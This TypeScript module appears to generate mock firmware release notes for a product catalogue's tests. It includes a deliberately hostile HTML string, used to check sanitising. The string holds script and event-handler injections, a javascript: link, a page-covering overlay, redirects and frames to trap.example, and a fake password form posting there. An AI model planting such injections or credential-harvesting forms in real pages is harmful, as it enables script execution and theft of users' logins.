import type { Product } from './catalogue.ts'
import { numberOf, roll } from './random.ts'

/**
 * Texts of release notes. Neither the shape nor a text is published: assumed, in the three formats that a
 * vendor may use, some of them hostile.
 */

const fixes: readonly string[] = [
  'Mute state stays in sync with the meeting after a call is put on hold',
  'The headset no longer drops the connection after 40 minutes in a Teams call',
  'Busylight turns off when the last call ends',
  'The ringer volume is kept after a restart',
  'Pairing with a second phone no longer ends the first connection',
  'The device restarts automatically after an interrupted update',
]
const improvements: readonly string[] = [
  'Less noise from keyboards in the microphone',
  'Longer standby time: up to two more days',
  'Faster connection to the USB adapter',
  'Voice guidance in four more languages',
]

const two = (of: readonly string[], seed: number, version: string): readonly string[] => {
  const at = Math.floor(roll(seed, numberOf(version), 731) * of.length)
  return [of[at] ?? '', of[(at + 1) % of.length] ?? '']
}

/** Content that must not run, load anything, or cover the page. */
const hostile =
  '<style>*{display:none}body{background:red}</style><script>document.title="planted"</script>' +
  '<div style="position:fixed;inset:0;z-index:9999;background:#f00">This text stays in its box.</div>' +
  '<iframe src="https://trap.example/frame"></iframe><img src="https://trap.example/pixel.png" onerror="document.title=\'planted\'" alt="A picture that is not loaded">' +
  '<svg onload="document.title=\'planted\'"><circle r="9"/></svg><meta http-equiv="refresh" content="0;url=https://trap.example/">' +
  '<form action="https://trap.example/"><input name="password"><button>Sign in</button></form>' +
  '<p><a href="javascript:document.title=\'planted\'">A script</a>, <a href="data:text/html,planted">a document</a>, <a href="https://www.jabra.com/support">a page</a></p>' +
  `<table><tr>${'<td>wide</td>'.repeat(60)}</tr>${'<tr><td>long</td></tr>'.repeat(300)}</table>`

const texts: readonly ((version: string, fixed: readonly string[], better: readonly string[]) => object)[] = [
  (version, fixed, better) => ({
    version,
    text: `Firmware ${version}\n\nFixes:\n${fixed.map((one) => `- ${one}`).join('\n')}\n\n${better.join('. ')}.`,
  }),
  (version, fixed, better) => ({
    version,
    format: 'markdown',
    text: `## What is new\n\n${better.map((one) => `- **${one}**`).join('\n')}\n\n## Fixes\n\n${fixed.map((one) => `1. ${one}`).join('\n')}\n\n| Client | Needed |\n|---|---|\n| Direct | 6.14 |\n| Plus | \`2.30\` |\n\nSee the [support page](https://www.jabra.com/support).`,
  }),
  (version, fixed, better) => ({
    version,
    html: `<h2>Improvements</h2><ul>${better.map((one) => `<li>${one}</li>`).join('')}</ul><h2>Fixes</h2><ul>${fixed.map((one) => `<li>${one}</li>`).join('')}</ul><p><em>Restart the device</em> after the update.</p>`,
  }),
]

/**
 * For nearly every product with releases, for four of five versions; a hostile one for every fourth product.
 */
export const releaseNoteTexts = (product: Product): readonly object[] => {
  const seed = numberOf(product.name)
  if (roll(seed, 730) < 0.1) return []
  return product.releases.flatMap(({ version }, at) => {
    if ((seed + at) % 5 === 4) return []
    if (at === 2 && seed % 4 === 0) return [{ version, html: hostile }]
    const text = texts[(seed + at) % texts.length]
    return text === undefined
      ? []
      : [text(version, two(fixes, seed, version), two(improvements, seed, version))]
  })
}
